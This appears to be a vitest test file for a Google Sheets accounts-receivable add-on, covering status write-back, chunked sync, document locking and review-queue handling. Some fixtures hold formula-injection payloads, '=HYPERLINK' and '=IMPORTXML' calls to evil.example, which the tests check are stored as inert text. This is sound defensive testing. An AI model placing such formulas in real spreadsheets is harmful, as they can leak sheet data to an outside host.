// The built add-on against an in-process stand-in backend: status write-back blocks and the formula
// guard, oversize chunks split on 413, and the recorded service calls of a sync.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type {
  CustomerPanel,
  QueueEntry,
  Result,
  Saved,
  SentMessage,
  SyncProgress,
} from '../../apps-script/src/contract.js';
import { SYNC_ORDER } from '../../core/ledger/sync-order.js';
import { type BuiltBundle, buildBundle, type LoadedAddon, loadAddon } from './addon-harness.js';
import { createStandIn, type StandInOptions } from './stand-in-backend.js';

let bundle: BuiltBundle;
const loaded: LoadedAddon[] = [];

beforeAll(async () => {
  bundle = await buildBundle({ skipUi: true });
}, 60_000);

afterAll(async () => {
  await Promise.all(loaded.map((a) => a.gas.close()));
});

const CUSTOMERS = [
  ['Customer ID', 'Name', 'Balance', 'Aging Bucket', 'Stage', 'Next Action', 'Why', 'Last Contact'],
  ['C-1', 'Ada Ltd', '', '', '=HYPERLINK("http://evil.example")', '', '', ''],
  ['C-2', 'Bo Inc', '', '', '', '', '', ''],
  ['', '', '', '', '', '', '', ''],
  ['C-3', 'Cy plc', '', '', '', '', '', ''],
];

function withStandIn(options: StandInOptions = {}) {
  const standIn = createStandIn(options);
  const a = loadAddon(bundle, { backend: (r) => standIn.handle(r) });
  loaded.push(a);
  a.gas.identityToken = 'stand-in-token';
  a.gas.documentProperties.set('duebook.settings', JSON.stringify({ backendUrl: 'https://api.test' }));
  return { a, standIn };
}

describe('refresh status', () => {
  it('returns one setValues per contiguous block with every written string guarded', () => {
    // Prepare
    const { a, standIn } = withStandIn({
      status: (id) => ({
        balance: id === 'C-2' ? '=IMPORTXML("http://evil.example")' : 'USD 10.00',
        bucket: '+1-30',
        lastContact: '@someone',
        why: '-2 days',
      }),
    });
    const sheet = a.gas.addSheet('Customers', CUSTOMERS);
    // Act
    a.call('menuRefreshStatus');
    // Assess
    expect(standIn.statusRequests).toEqual([['C-1', 'C-2', 'C-3']]);
    expect(a.gas.count('Range.setValues')).toBe(2);
    expect(sheet.formulaInjections).toEqual([]);
    const written = a.gas.calls
      .filter((c) => c.method === 'setValues')
      .flatMap((c) => (c.args[0] as unknown[][]).flat());
    expect(written).toContain('\'=IMPORTXML("http://evil.example")');
    expect(written).toContain("'+1-30");
    expect(written).toContain("'@someone");
    expect(written).toContain("'-2 days");
    expect(written).toContain('\'=HYPERLINK("http://evil.example")');
    expect(sheet.rows[1]!.slice(2)).toEqual([
      'USD 10.00',
      '+1-30',
      '=HYPERLINK("http://evil.example")',
      '',
      '-2 days',
      '@someone',
    ]);
  });

  it('returns status for at most 500 customers per request, all requests in one fetchAll', () => {
    const { a, standIn } = withStandIn();
    const rows = [
      CUSTOMERS[0]!,
      ...Array.from({ length: 1_201 }, (_, i) => [`C-${i}`, `Name ${i}`, '', '', '', '', '', '']),
    ];
    a.gas.addSheet('Customers', rows);
    a.call('menuRefreshStatus');
    expect(standIn.statusRequests.flat()).toEqual(rows.slice(1).map((r) => r[0]));
    expect(Math.max(...standIn.statusRequests.map((r) => r.length))).toBeLessThanOrEqual(500);
    expect(a.gas.count('UrlFetchApp.fetchAll')).toBe(1);
    expect(a.gas.count('Range.setValues')).toBe(1);
  });

  it("returns every status URL within Apps Script's 2 KB URL limit, 500 short ids at most per request", () => {
    // Prepare: 1,201 ids of 12 characters would make 500-id URLs of about 6.5 KB.
    const { a, standIn } = withStandIn();
    const ids = Array.from({ length: 1_201 }, (_, i) => `CUST-${String(i).padStart(7, '0')}`);
    a.gas.addSheet('Customers', [CUSTOMERS[0]!, ...ids.map((id) => [id, 'N', '', '', '', '', '', ''])]);
    // Act
    a.call('menuRefreshStatus');
    // Assess
    const urls = a.gas.requests.filter((r) => r.url.includes('/v1/status')).map((r) => r.url);
    expect(Math.max(...urls.map((u) => u.length))).toBeLessThanOrEqual(2048);
    expect(standIn.statusRequests.flat()).toEqual(ids);
    expect(a.gas.count('UrlFetchApp.fetchAll')).toBe(1);
  });
});

describe('sync', () => {
  const invoices = (n: number) => [
    ['Invoice ID', 'Customer ID', 'Invoice Date', 'Due Date', 'Amount', 'Currency', 'Description'],
    ...Array.from({ length: n }, (_, i) => [
      `INV-${i}`,
      `C-${i % 7}`,
      '2026-01-01',
      '2026-02-01',
      100 + i,
      'USD',
      'x'.repeat(40),
    ]),
  ];

  it('returns done after splitting a chunk the backend refuses as too large', () => {
    // Prepare
    const { a, standIn } = withStandIn({ maxSyncBytes: 20_000 });
    a.gas.addSheet('Customers', [
      ['Customer ID', 'Name'],
      ...Array.from({ length: 7 }, (_, i) => [`C-${i}`, `N${i}`]),
    ]);
    a.gas.addSheet('Invoices', invoices(400));
    // Act
    const result = a.call<Result<SyncProgress>>('startSync');
    // Assess
    expect(result).toMatchObject({ ok: true, value: { state: 'done', rejected: 0 } });
    const sent = standIn.syncBodies.filter((b) => b.tab === 'Invoices').flatMap((b) => b.rowNumbers);
    expect(sent.sort((x, y) => x - y)).toEqual(Array.from({ length: 400 }, (_, i) => i + 2));
    expect(standIn.syncBodies.filter((b) => b.tab === 'Invoices').length).toBeGreaterThan(1);
  });

  it('returns chunks of whole customers, each at most the chunk limit, gzip-compressed', () => {
    const { a, standIn } = withStandIn();
    a.gas.addSheet('Customers', [
      ['Customer ID', 'Name'],
      ...Array.from({ length: 7 }, (_, i) => [`C-${i}`, `N${i}`]),
    ]);
    a.gas.addSheet('Invoices', invoices(30_000));
    const result = a.call<Result<SyncProgress>>('startSync');
    expect(result).toMatchObject({ ok: true, value: { state: 'done' } });
    const chunks = standIn.syncBodies.filter((b) => b.tab === 'Invoices');
    expect(chunks.length).toBeGreaterThan(1);
    expect(chunks.every((c) => JSON.stringify(c).length <= 2 * 1024 * 1024)).toBe(true);
    const customersIn = chunks.map((c) => new Set(c.columns[1] as string[]));
    for (let i = 0; i < customersIn.length; i++)
      for (let j = i + 1; j < customersIn.length; j++)
        expect([...customersIn[i]!].filter((c) => customersIn[j]!.has(c))).toEqual([]);
    const syncs = a.gas.requests.filter((r) => new URL(r.url).pathname === '/v1/sync');
    expect(syncs.length).toBe(chunks.length + 1);
    expect(syncs.every((r) => r.headers['content-encoding'] === 'gzip')).toBe(true);
    expect(standIn.wireBytes).toBeLessThan(standIn.plainBytes / 4);
  });

  it('writes the backend’s rows into the sheet, sends them back in the same sync and acknowledges them', () => {
    // Prepare: a card payment through Stripe (new) and an invoice the debtor disputed (changed)
    const acks: unknown[] = [];
    const { a, standIn } = withStandIn({
      get: (path) =>
        path === '/v1/sheet-rows'
          ? {
              status: 200,
              body: {
                rows: [
                  {
                    tab: 'Payments',
                    rowId: 'pi_123',
                    change: 'new',
                    cells: {
                      'Payment ID': 'pi_123',
                      'Customer ID': 'C-1',
                      Date: '2026-11-23',
                      Amount: 400,
                      Currency: 'USD',
                      'Applies To': 'INV-1',
                      Method: '=card',
                    },
                  },
                  {
                    tab: 'Invoices',
                    rowId: 'INV-2',
                    change: 'changed',
                    cells: { 'Invoice ID': 'INV-2', Status: 'disputed' },
                  },
                  { tab: 'Invoices', rowId: 'INV-9', change: 'changed', cells: { Status: 'disputed' } },
                ],
              },
            }
          : undefined,
      post: (path, body) => {
        if (path !== '/v1/sheet-rows') return undefined;
        acks.push(body);
        return { status: 200, body: { acknowledged: 2 } };
      },
    });
    a.gas.addSheet('Customers', [
      ['Customer ID', 'Name'],
      ['C-1', 'Ada Ltd'],
    ]);
    const invoices = a.gas.addSheet('Invoices', [
      ['Invoice ID', 'Customer ID', 'Invoice Date', 'Due Date', 'Amount', 'Currency', 'Status'],
      ['INV-1', 'C-1', '2026-09-01', '2026-10-01', 400, 'USD', ''],
      ['INV-2', 'C-1', '2026-09-05', '2026-10-05', 250, 'USD', ''],
    ]);
    const payments = a.gas.addSheet('Payments', [
      ['Payment ID', 'Customer ID', 'Date', 'Amount', 'Currency', 'Applies To', 'Method'],
    ]);
    // Act
    const result = a.call<Result<SyncProgress>>('startSync');
    // Assess
    expect(result).toMatchObject({ ok: true, value: { state: 'done' } });
    expect(payments.rows[1]!.slice(0, 7)).toEqual([
      'pi_123',
      'C-1',
      '2026-11-23',
      400,
      'USD',
      'INV-1',
      '=card',
    ]);
    expect(payments.formulaInjections).toEqual([]);
    expect(invoices.rows[2]![6]).toBe('disputed');
    const sent = standIn.syncBodies.find((b) => b.tab === 'Payments')!;
    expect(sent.columns[0]).toEqual(['pi_123']);
    expect(acks).toEqual([
      {
        rows: [
          { tab: 'Payments', rowId: 'pi_123' },
          { tab: 'Invoices', rowId: 'INV-2' },
        ],
      },
    ]);
    expect((result as { value: SyncProgress }).value.message).toContain('INV-9: the sheet has no such row');
  });

  it('returns the backend errors beside their rows and remembers the rest', () => {
    const { a, standIn } = withStandIn({
      reject: (tab, row) =>
        tab === 'Invoices' && (row === 3 || row === 4) ? 'has more than 2 decimals' : undefined,
    });
    a.gas.addSheet('Customers', [
      ['Customer ID', 'Name'],
      ...Array.from({ length: 7 }, (_, i) => [`C-${i}`, `N${i}`]),
    ]);
    const sheet = a.gas.addSheet('Invoices', invoices(5));
    a.call('menuSetupLedger');
    a.gas.resetCalls();
    const result = a.call<Result<SyncProgress>>('startSync');
    const errorsCol = sheet.header().indexOf('Errors') + 1;
    expect(result).toMatchObject({ ok: true, value: { rejected: 2 } });
    expect(sheet.column('Errors')).toEqual([
      '',
      'Amount: has more than 2 decimals',
      'Amount: has more than 2 decimals',
      '',
      '',
    ]);
    expect(sheet.backgrounds.get(`3:${errorsCol}`)).toBe('#f4cccc');
    expect(
      a.gas.calls.filter((c) => c.method === 'setBackgrounds' && c.range?.sheet === 'Invoices'),
    ).toHaveLength(1);
    // A continued sync leaves the rejected rows alone; a new one tries them again.
    standIn.syncBodies.length = 0;
    a.call('continueSync');
    expect(standIn.syncBodies).toEqual([]);
    a.call('startSync');
    expect(standIn.syncBodies.flatMap((b) => b.rowNumbers)).toEqual([3, 4]);
  });

  it('returns each error beside its own row when a clerk inserts a row while the chunks are out', () => {
    // Prepare: the backend rejects invoice rows 3 and 4; while it answers, a row appears above them.
    let sheet: ReturnType<LoadedAddon['gas']['addSheet']> | undefined;
    const { a } = withStandIn({
      reject: (tab, row) => {
        if (tab !== 'Invoices') return undefined;
        if (row === 2 && sheet)
          sheet.rows.splice(
            1,
            0,
            sheet.rows[0]!.map(() => ''),
          );
        return row === 3 || row === 4 ? 'has more than 2 decimals' : undefined;
      },
    });
    a.gas.addSheet('Customers', [
      ['Customer ID', 'Name'],
      ...Array.from({ length: 7 }, (_, i) => [`C-${i}`, `N${i}`]),
    ]);
    sheet = a.gas.addSheet('Invoices', invoices(5));
    a.call('menuSetupLedger');
    // Act
    const result = a.call<Result<SyncProgress>>('startSync');
    // Assess: the inserted blank row has no error; the rejected rows, now 4 and 5, have theirs.
    expect(result).toMatchObject({ ok: true, value: { rejected: 2 } });
    expect(sheet.column('Errors')).toEqual([
      '',
      '',
      'Amount: has more than 2 decimals',
      'Amount: has more than 2 decimals',
      '',
      '',
    ]);
  });

  it('returns a row key typed as a formula kept as text in the sync state sheet, and not resent', () => {
    // Prepare: the hidden row key column is a cell like any other; an editor may type into it.
    const { a, standIn } = withStandIn();
    a.gas.addSheet('Customers', [
      ['Customer ID', 'Name', 'Errors', 'Duebook Row Key'],
      ['C-1', 'Ada', '', '=IMPORTXML("http://evil.example","//a")'],
      ['C-2', 'Bo', '', '-k2'],
    ]);
    // Act
    a.call('startSync');
    standIn.syncBodies.length = 0;
    a.call('startSync');
    // Assess
    const state = a.gas.sheet('Duebook Sync State')!;
    expect(state.formulaInjections).toEqual([]);
    expect(state.rows.map((r) => r[1])).toContain('=IMPORTXML("http://evil.example","//a")');
    expect(standIn.syncBodies).toEqual([]);
  });

  it('returns the document lock released when the sync state sheet cannot be read', () => {
    // Prepare: the lock is taken, then reading the hidden sync state sheet fails.
    const { a } = withStandIn();
    a.gas.addSheet('Customers', [
      ['Customer ID', 'Name'],
      ['C-1', 'Ada'],
    ]);
    const sheet = a.gas.sheet.bind(a.gas);
    a.gas.sheet = (name: string) => {
      if (name === 'Duebook Sync State')
        throw new Error('Service Spreadsheets timed out while accessing document');
      return sheet(name);
    };
    // Act
    const result = a.call<Result<SyncProgress>>('startSync');
    // Assess
    expect(result).toMatchObject({ ok: false, error: { message: expect.stringMatching(/timed out/) } });
    expect(a.gas.lockHeld).toBe(false);
  });

  it('returns date cells sent as ISO dates in the spreadsheet zone and amounts as numbers', () => {
    const { a, standIn } = withStandIn();
    // What getValues() gives for a date cell: midnight in the spreadsheet's zone (New York).
    const midnight = new Date('2026-03-01T05:00:00Z');
    a.gas.addSheet('Customers', [
      ['Customer ID', 'Name'],
      ['C-1', 'Ada'],
    ]);
    a.gas.addSheet('Invoices', [
      ['Invoice ID', 'Customer ID', 'Invoice Date', 'Due Date', 'Amount', 'Currency'],
      ['INV-1', 'C-1', midnight, new Date('2026-03-31T04:00:00Z'), 1234.5, 'USD'],
    ]);
    a.call('startSync');
    const body = standIn.syncBodies.find((b) => b.tab === 'Invoices')!;
    expect(body.header).toEqual([
      'Invoice ID',
      'Customer ID',
      'Invoice Date',
      'Due Date',
      'Amount',
      'Currency',
    ]);
    expect(body.columns.map((c) => c[0])).toEqual([
      'INV-1',
      'C-1',
      '2026-03-01',
      '2026-03-31',
      1234.5,
      'USD',
    ]);
  });
});

describe('sidebar actions', () => {
  it('returns an error saying the row is already in the sheet when the backend refuses a payment', () => {
    // Prepare: a customer added to the sheet but not synced yet, as the backend answers then.
    const { a } = withStandIn({
      post: (path) =>
        path === '/v1/payments'
          ? {
              status: 400,
              body: {
                error: { code: 'SCHEMA.CUSTOMER_UNKNOWN', message: 'no customer "C-1" has been synced' },
              },
            }
          : undefined,
    });
    a.gas.addSheet('Customers', [
      ['Customer ID', 'Name'],
      ['C-1', 'Ada'],
    ]);
    a.gas.addSheet('Payments', [['Payment ID', 'Customer ID', 'Date', 'Amount', 'Currency']]);
    a.call('menuSetupLedger');
    // Act
    const result = a.call<Result<Saved>>('postPayment', {
      customerId: 'C-1',
      date: '2026-11-20',
      amount: '25.00',
      currency: 'USD',
    });
    // Assess: the clerk learns the payment is recorded, so it is not entered a second time.
    expect(a.gas.sheet('Payments')!.lastRow()).toBe(2);
    expect(result).toMatchObject({ ok: false, error: { kind: 'invalid' } });
    const error = (result as { error: { message: string; fields?: unknown } }).error;
    expect(error.message).toMatch(/^Saved in the Payments tab \(row 2\); do not enter it again\./);
    expect(error.message).toContain('no customer "C-1" has been synced');
    expect(error.fields).toBeUndefined();
  });
});

describe('appending a row under the document lock', () => {
  function paymentSheet() {
    const { a, standIn } = withStandIn({
      post: (path) => (path === '/v1/payments' ? { status: 201, body: { replayed: false } } : undefined),
    });
    a.gas.addSheet('Customers', [
      ['Customer ID', 'Name'],
      ['C-1', 'Ada'],
    ]);
    a.gas.addSheet('Payments', [['Payment ID', 'Customer ID', 'Date', 'Amount', 'Currency']]);
    a.call('menuSetupLedger');
    a.gas.resetCalls();
    return { a, standIn };
  }
  const payment = { customerId: 'C-1', date: '2026-11-20', amount: '25.00', currency: 'USD' };

  it('returns the row written between taking and releasing the document lock, flushed first', () => {
    // Prepare
    const { a } = paymentSheet();
    // Act
    const result = a.call<Result<Saved>>('postPayment', payment);
    // Assess
    expect(result).toMatchObject({ ok: true, value: { tab: 'Payments', row: 2 } });
    const names = a.gas.calls.map((c) => `${c.service}.${c.method}`);
    const took = names.indexOf('Lock.tryLock');
    const lastRow = names.indexOf('Sheet.getLastRow', took);
    const write = names.indexOf('Range.setValues', took);
    const flush = names.indexOf('SpreadsheetApp.flush', took);
    const released = names.indexOf('Lock.releaseLock', took);
    expect(took).toBeGreaterThan(-1);
    expect(a.gas.calls[took]!.args).toEqual([10_000]);
    expect([took < lastRow, lastRow < write, write < flush, flush < released]).toEqual([
      true,
      true,
      true,
      true,
    ]);
    expect(a.gas.lockHeld).toBe(false);
  });

  it('returns a busy error and writes nothing while another action holds the lock', () => {
    // Prepare: another execution (a second clerk's save, a sync) holds the document lock.
    const { a } = paymentSheet();
    a.gas.lockHeld = true;
    // Act
    const result = a.call<Result<Saved>>('postPayment', payment);
    // Assess
    expect(result).toEqual({
      ok: false,
      error: {
        kind: 'other',
        message: 'Another Duebook action is writing to the sheet; try again in a moment.',
      },
    });
    expect(a.gas.sheet('Payments')!.lastRow()).toBe(1);
    expect(a.gas.count('Range.setValues')).toBe(0);
    expect(a.gas.requests.filter((r) => r.url.endsWith('/v1/payments'))).toEqual([]);
    expect(a.gas.lockHeld).toBe(true);
  });

  it('returns the lock released when the write itself fails', () => {
    // Prepare: Sheets refuses the write (e.g. a protected range).
    const { a } = paymentSheet();
    const sheet = a.gas.sheet('Payments')!;
    const original = sheet.lastRow.bind(sheet);
    let calls = 0;
    (sheet as unknown as { lastRow: () => number }).lastRow = () => {
      if (!a.gas.lockHeld) return original();
      calls++;
      throw new Error('Service Spreadsheets failed while accessing document');
    };
    // Act
    const result = a.call<Result<Saved>>('postPayment', payment);
    (sheet as unknown as { lastRow: () => number }).lastRow = original;
    // Assess
    expect(result.ok).toBe(false);
    expect(calls).toBeGreaterThan(0);
    expect(a.gas.lockHeld).toBe(false);
  });
});

describe('review queue', () => {
  it("sends a credit task's done or dismiss as it is, and counts the task changed", () => {
    // Prepare: the backend marks the task done (its own action: approve and skip are not for tasks).
    const bodies: unknown[] = [];
    const { a } = withStandIn({
      post: (path, body) => {
        if (path !== '/v1/queue') return undefined;
        bodies.push(body);
        const entries = body.entries as { customerId: string }[];
        return { status: 200, body: { results: entries.map((e) => ({ ...e, status: 'done' })) } };
      },
    });
    const task = {
      customerId: 'C-1',
      stage: 'credit-hold',
      channel: 'internal:credit-hold',
      cycle: '2026-10-04',
    };
    // Act
    const done = a.call<Result<unknown>>('decideQueue', { decision: 'done', entries: [task] });
    const dismiss = a.call<Result<unknown>>('decideQueue', { decision: 'dismiss', entries: [task] });
    const junk = a.call<Result<unknown>>('decideQueue', { decision: 'archive', entries: [task] });
    // Assess
    expect(done).toEqual({ ok: true, value: { changed: 1, unchanged: 0 } });
    expect(dismiss).toEqual({ ok: true, value: { changed: 1, unchanged: 0 } });
    expect(bodies).toEqual([
      { decision: 'done', entries: [task] },
      { decision: 'dismiss', entries: [task] },
    ]);
    expect(junk.ok).toBe(false);
  });

  it('returns a refused hand-over apart from the approvals, with its reasons', () => {
    // Prepare: the backend places one hand-over and refuses the other (it became a task).
    const { a } = withStandIn({
      post: (path, body) => {
        if (path !== '/v1/queue') return undefined;
        const entries = body.entries as { customerId: string }[];
        return {
          status: 200,
          body: {
            results: entries.map((e) =>
              e.customerId === 'C-2'
                ? {
                    ...e,
                    status: 'refused',
                    refusals: [{ rule: 'handover/dispute', reason: 'an invoice is disputed' }],
                  }
                : { ...e, status: 'placed', placedWith: 'Acme Recovery' },
            ),
          },
        };
      },
    });
    const entry = (customerId: string) => ({
      customerId,
      stage: 'handover',
      channel: 'handover',
      cycle: 'c',
    });
    // Act
    const result = a.call<Result<unknown>>('decideQueue', {
      decision: 'approve',
      entries: [entry('C-1'), entry('C-2')],
    });
    // Assess
    expect(result).toEqual({
      ok: true,
      value: {
        changed: 1,
        unchanged: 0,
        refused: [{ customerId: 'C-2', reasons: ['an invoice is disputed'] }],
      },
    });
  });

  it('returns each line with the email rendered, times on the office clock and amounts formatted', () => {
    // Prepare: the API answers for an office in Chicago.
    const email = {
      to: 'ada@example.com',
      subject: 'Payment reminder: USD 400.00 past due',
      text: 'USD 400.00 is past due',
      html: '<p>USD 400.00</p>',
      amounts: [{ currency: 'USD', amountMinor: 40_000 }],
      localTime: '2026-11-24 08:00 America/New_York',
    };
    const line = (customerId: string, more: Record<string, unknown>) => ({
      customerId,
      stage: 'reminder-30',
      channel: 'email',
      cycle: '2026-10-20',
      notBefore: '2026-11-24T13:00:00.000Z',
      explanation: { summary: `${customerId} owes` },
      ...more,
    });
    const { a } = withStandIn({
      get: (path) =>
        path === '/v1/queue'
          ? {
              status: 200,
              body: {
                timeZone: 'America/Chicago',
                entries: [
                  line('C-1', {
                    kind: 'review',
                    preview: { ...email, waitsUntil: '2026-11-24T13:00:00.000Z' },
                  }),
                  line('C-2', {
                    kind: 'review',
                    preview: { wouldNotSend: { rule: 'flag/dispute', reason: 'disputed' } },
                  }),
                  line('C-3', {
                    kind: 'uncertain',
                    uncertain: {
                      claimedAt: '2026-11-23T15:02:00.000Z',
                      attempts: 2,
                      reason: 'may have been sent',
                      message: email,
                    },
                  }),
                  line('C-9', {
                    kind: 'failed',
                    stage: 'run-error',
                    channel: 'none',
                    error: { rule: 'run/failed', reason: 'too large' },
                  }),
                ],
              },
            }
          : undefined,
    });
    a.gas.addSheet('Customers', CUSTOMERS);
    // Act
    const result = a.call<Result<{ timeZone: string; entries: QueueEntry[] }>>('getQueue');
    // Assess
    if (!result.ok) throw new Error(result.error.message);
    const [c1, c2, c3, c9] = result.value.entries;
    expect(result.value.timeZone).toBe('America/Chicago');
    expect(c1).toMatchObject({
      customerName: 'Ada Ltd',
      kind: 'review',
      plannedFor: '2026-11-24 07:00',
      waitsUntil: '2026-11-24 07:00',
      amount: { currency: 'USD', minor: 40_000, text: 'USD 400.00' },
      why: 'C-1 owes',
      preview: {
        to: 'ada@example.com',
        subject: 'Payment reminder: USD 400.00 past due',
        html: '<p>USD 400.00</p>',
        debtorTime: '2026-11-24 08:00 America/New_York',
      },
    });
    expect(c2).toMatchObject({ wouldNotSend: { rule: 'flag/dispute', reason: 'disputed' } });
    expect(c2!.preview).toBeUndefined();
    expect(c3).toMatchObject({
      kind: 'uncertain',
      uncertain: { claimedAt: '2026-11-23 09:02', attempts: 2, message: { subject: email.subject } },
    });
    expect(c3!.plannedFor).toBeUndefined();
    expect(c9).toMatchObject({ kind: 'failed', error: { rule: 'run/failed', reason: 'too large' } });
  });

  it('returns a credit-contact task as its own kind (its own view in the queue), saying whom it told and when, or why not yet', () => {
    // Prepare: one notice sent, one waiting for a credit contact.
    const task = (customerId: string, more: Record<string, unknown>) => ({
      customerId,
      stage: 'credit-hold',
      channel: 'internal:credit-hold',
      cycle: '2026-10-04',
      kind: 'task',
      status: 'task',
      explanation: { summary: `${customerId} reached the credit hold` },
      ...more,
    });
    const { a } = withStandIn({
      get: (path) =>
        path === '/v1/queue'
          ? {
              status: 200,
              body: {
                timeZone: 'America/Chicago',
                entries: [
                  task('C-1', {
                    task: {
                      subject: 'Credit hold: Ada Ltd (C-1)',
                      notifiedTo: 'credit@office.example',
                      sentAt: '2026-11-23T15:02:00.000Z',
                    },
                  }),
                  task('C-2', {
                    task: { subject: 'Credit hold: Bo (C-2)', waiting: 'no credit contact is set' },
                  }),
                ],
              },
            }
          : undefined,
    });
    a.gas.addSheet('Customers', CUSTOMERS);
    // Act
    const result = a.call<Result<{ timeZone: string; entries: QueueEntry[] }>>('getQueue');
    // Assess
    if (!result.ok) throw new Error(result.error.message);
    const [sent, waiting] = result.value.entries;
    expect(sent).toMatchObject({
      kind: 'task',
      credit: { notice: 'hold', notifiedTo: 'credit@office.example', sentAt: '2026-11-23 09:02' },
      why: 'Credit hold: Ada Ltd (C-1). Credit contact credit@office.example told 2026-11-23 09:02. Mark it done once the credit department has acted. C-1 reached the credit hold',
    });
    expect(waiting!.credit).toMatchObject({ waiting: 'no credit contact is set' });
    expect(waiting!.why).toBe(
      'Credit hold: Bo (C-2). Credit contact not told yet: no credit contact is set. Mark it done once the credit department has acted. C-2 reached the credit hold',
    );
  });

  it('returns a refused decision with the reason the backend gave', () => {
    // Prepare
    const { a } = withStandIn({
      post: (path, body) =>
        path === '/v1/queue'
          ? {
              status: 200,
              body: {
                results: (body.entries as { customerId: string }[]).map((e) => ({
                  ...e,
                  status: 'refused',
                  reason: 'nothing to approve: Duebook could not plan this customer',
                })),
              },
            }
          : undefined,
    });
    // Act
    const result = a.call<Result<unknown>>('decideQueue', {
      decision: 'approve',
      entries: [{ customerId: 'C-9', stage: 'run-error', channel: 'none', cycle: '2026-11-23' }],
    });
    // Assess
    expect(result).toEqual({
      ok: true,
      value: {
        changed: 0,
        unchanged: 0,
        refused: [
          { customerId: 'C-9', reasons: ['nothing to approve: Duebook could not plan this customer'] },
        ],
      },
    });
  });
});

describe('sent messages', () => {
  it('returns the archive newest first, sent times on the office clock, asked for the one customer', () => {
    // Prepare
    const asked: string[] = [];
    const message = (sentAt: string, subject: string) => ({
      customerId: 'C 1/2',
      stage: 'reminder-30',
      channel: 'email',
      cycle: '2026-10-20',
      to: 'ada@example.com',
      subject,
      text: 'text',
      html: '<p>html</p>',
      sentAt,
      localTime: '2026-11-02 10:14 America/New_York',
      officeTime: 'ignored',
      messageId: 'ses-1',
      activityId: 'DB-reminder-30-email-2026-10-20',
      amounts: [{ currency: 'EUR', amountMinor: 12_345 }],
    });
    const { a } = withStandIn({
      get: (path, query) => {
        if (path !== '/v1/messages') return undefined;
        asked.push(query.get('customer') ?? '');
        return {
          status: 200,
          body: {
            timeZone: 'America/Los_Angeles',
            messages: [
              message('2026-11-02T15:14:00.000Z', 'first'),
              message('2026-11-20T18:00:00.000Z', 'second'),
            ],
            activity: [
              {
                activityId: 'DB-X-1',
                date: '2026-11-03',
                type: 'note',
                outcome: 'not sent: flag/dispute',
                note: 'disputed',
                by: 'duebook',
              },
              {
                activityId: 'DB-reminder-30-email-2026-10-20',
                date: '2026-11-02',
                type: 'email',
                direction: 'outbound',
                stage: 'reminder-30',
                outcome: 'sent',
                by: 'duebook',
              },
            ],
          },
        };
      },
    });
    // Act
    const result = a.call<Result<{ messages: SentMessage[]; activity: CustomerPanel['history'] }>>(
      'customerMessages',
      'C 1/2',
    );
    // Assess
    if (!result.ok) throw new Error(result.error.message);
    expect(asked).toEqual(['C 1/2']);
    expect(result.value.messages.map((m) => [m.subject, m.sentAt, m.officeZone])).toEqual([
      ['second', '2026-11-20 10:00', 'America/Los_Angeles'],
      ['first', '2026-11-02 07:14', 'America/Los_Angeles'],
    ]);
    expect(result.value.messages[0]).toMatchObject({
      activityId: 'DB-reminder-30-email-2026-10-20',
      debtorTime: '2026-11-02 10:14 America/New_York',
      amounts: [{ currency: 'EUR', minor: 12_345, text: expect.stringContaining('123.45') }],
    });
    expect(result.value.activity).toEqual([
      {
        activityId: 'DB-X-1',
        date: '2026-11-03',
        type: 'note',
        direction: 'outbound',
        outcome: 'not sent: flag/dispute',
        note: 'disputed',
        by: 'duebook',
      },
      {
        activityId: 'DB-reminder-30-email-2026-10-20',
        date: '2026-11-02',
        type: 'email',
        direction: 'outbound',
        stage: 'reminder-30',
        stageLabel: '30-day reminder',
        outcome: 'sent',
        by: 'duebook',
      },
    ]);
  });

  it('returns an error a clerk can act on when the backend does not know the route', () => {
    // Prepare: an older backend without the archive answers 404.
    const { a } = withStandIn({});
    // Act
    const result = a.call<Result<unknown>>('customerMessages', 'C-1');
    // Assess
    expect(result.ok).toBe(false);
  });
});

describe('sync order', () => {
  it('sends every referenced tab before the tabs that name its rows (SYNC_ORDER), whatever the sheet order', () => {
    // Prepare: the tabs added in the schema's order, Payments before Adjustments
    const { a, standIn } = withStandIn();
    a.gas.addSheet('Customers', [
      ['Customer ID', 'Name'],
      ['C-1', 'Ada Ltd'],
    ]);
    a.gas.addSheet('Invoices', [
      ['Invoice ID', 'Customer ID', 'Invoice Date', 'Due Date', 'Amount', 'Currency'],
      ['INV-1', 'C-1', '2026-09-01', '2026-10-01', '100.00', 'USD'],
    ]);
    a.gas.addSheet('Payments', [
      ['Payment ID', 'Customer ID', 'Date', 'Amount', 'Currency', 'Applies To'],
      ['P-1', 'C-1', '2026-11-01', '5.00', 'USD', 'FEE-1'],
    ]);
    a.gas.addSheet('Adjustments', [
      ['Adjustment ID', 'Customer ID', 'Date', 'Type', 'Amount', 'Currency', 'Invoice ID'],
      ['FEE-1', 'C-1', '2026-10-15', 'late-fee', '5.00', 'USD', 'INV-1'],
    ]);
    // Act
    const result = a.call<Result<SyncProgress>>('startSync');
    // Assess
    expect(result).toMatchObject({ ok: true, value: { state: 'done' } });
    const tabs = [...new Set(standIn.syncBodies.map((b) => b.tab))];
    expect(tabs).toEqual(SYNC_ORDER.filter((t) => tabs.includes(t)));
    expect(tabs.indexOf('Adjustments')).toBeLessThan(tabs.indexOf('Payments'));
  });
});
